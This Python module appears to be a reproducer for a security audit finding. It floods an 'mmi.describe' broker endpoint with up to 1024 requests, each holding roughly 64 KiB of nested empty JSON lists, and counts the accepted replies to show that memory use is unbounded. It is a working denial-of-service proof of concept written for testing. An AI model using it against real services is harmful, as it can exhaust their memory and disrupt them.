"""Finding 3, ``mmi.describe`` bounded by count and text, not memory: descriptions of 64 KiB
of empty lists from a peer that never registers."""

from __future__ import annotations

from .frames import request
from .harness import Attacker

__all__ = ["run"]


def run(a: Attacker) -> None:
    count = a.size(1024, 160)
    lists = (64 * 1024 - 64) // 3
    info = b'{"request_schema": {"x": [' + b"[]," * lists + b"[]]}}"
    sock = a.socket()
    answers: list[bytes] = []
    for i in range(count):
        if not a.send(sock, request(b"mmi.describe", b"svc-%d" % i, info, metadata=[b"d"])):
            break
        while sock.poll(0):
            answers.append(sock.recv_multipart()[-1])
    while len(answers) < count and (frames := a.recv(sock, 2.0)) is not None:
        answers.append(frames[-1])
    a.notes["descriptions"] = count
    a.notes["accepted (200)"] = answers.count(b"200")
    a.hold(a.size(3, 0.5))
